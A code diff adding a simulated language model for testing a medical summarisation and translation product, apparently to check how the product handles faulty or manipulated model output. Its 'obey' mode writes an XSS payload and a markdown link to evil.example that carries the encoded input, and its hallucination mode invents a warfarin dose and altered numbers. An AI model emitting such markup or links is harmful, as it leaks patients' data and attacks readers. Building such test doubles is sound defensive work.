@@ -1,0 +1,89 @@
+import { translatePhrases } from './phrases.ts'
+
+type Entry = { id: number; text: string }
+type Input = { entries?: Entry[]; text?: string; to?: string; questions?: { text: string; answer: string }[] }
+
+/**
+ * What the simulated model says. The product sends what a call is about as the last JSON object of the user message.
+ *
+ * @param schema name of the schema that the caller asked for
+ */
+export function answerAsAsked(schema: string, model: string, user: string): unknown {
+  if (model === 'simulator-wrong-schema') return { unexpected: [true] }
+  if (model === 'simulator-huge') return { sentences: [{ text: 'a'.repeat(2_000_000), sources: [1] }] }
+  const input = readInput(user)
+  if (model === 'simulator-obeys') return obey(schema, input)
+  const isInventing = model === 'simulator-hallucinates'
+  switch (schema) {
+    case 'summary':
+      return { sentences: summarize(input.entries ?? [], isInventing) }
+    case 'questions':
+      return { questions: askAbout(input.text ?? '') }
+    case 'medical_summary':
+      return {
+        summary: [input.text, ...(input.questions ?? []).map((each) => `${each.text} ${each.answer}`)].join(
+          '\n',
+        ),
+      }
+    case 'translation':
+      return {
+        translation: isInventing
+          ? changeNumbers(input.text ?? '')
+          : translatePhrases(input.text ?? '', input.to ?? 'en'),
+      }
+    default:
+      return {}
+  }
+}
+
+function readInput(user: string): Input {
+  const from = user.indexOf('{')
+  const to = user.lastIndexOf('}')
+  if (from < 0 || to < from) return {}
+  try {
+    return JSON.parse(user.slice(from, to + 1)) as Input
+  } catch {
+    // A prompt that an administrator wrote may have braces of its own: the simulated model then has nothing to go by.
+    return {}
+  }
+}
+
+const firstSentence = (text: string) => /^[^.!?\n]{1,300}[.!?]?/.exec(text.trim())?.[0] ?? ''
+
+function summarize(entries: readonly Entry[], isInventing: boolean) {
+  const sentences = entries
+    .map(({ id, text }) => ({ text: firstSentence(text), sources: [id] }))
+    .filter(({ text }) => text !== '')
+    .slice(0, 6)
+  if (!isInventing) return sentences
+  return [
+    ...sentences,
+    { text: 'The patient takes warfarin 7 mg.', sources: [entries[0]?.id ?? 0] },
+    { text: 'The neighbour Kowalski was there too.', sources: [entries[0]?.id ?? 0] },
+    { text: 'Nothing supports this sentence.', sources: [] },
+  ]
+}
+
+function askAbout(text: string) {
+  const isPain = /valu|pain|ból|бол/iu.test(text)
+  return isPain
+    ? [
+        { id: 'where', topic: 'PLACE' },
+        { id: 'since', topic: 'BEGIN' },
+      ]
+    : [{ id: 'since', topic: 'BEGIN' }]
+}
+
+const changeNumbers = (text: string) => text.replace(/\d/g, (digit) => String((Number(digit) + 1) % 10))
+
+/** A model that does what a text tells it: it writes markup and links, and repeats what it was given. */
+function obey(schema: string, input: Input): unknown {
+  const said = JSON.stringify(input)
+  const planted = `<img src=x onerror=alert(1)> [click](https://evil.example/?q=${encodeURIComponent(said.slice(0, 200))}) `
+  const text = `${planted}${said}`
+  if (schema === 'summary')
+    return { sentences: [{ text, sources: (input.entries ?? []).map(({ id }) => id) }] }
+  if (schema === 'translation') return { translation: text }
+  if (schema === 'medical_summary') return { summary: text }
+  return { questions: [{ id: 'planted', topic: text }] }
+}
